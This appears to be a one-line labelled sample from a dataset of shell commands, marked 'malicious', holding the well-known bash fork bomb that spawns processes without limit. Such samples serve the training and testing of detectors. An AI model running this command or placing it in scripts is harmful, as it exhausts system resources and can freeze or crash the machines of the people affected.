# label: malicious
:(){ :|:& };:
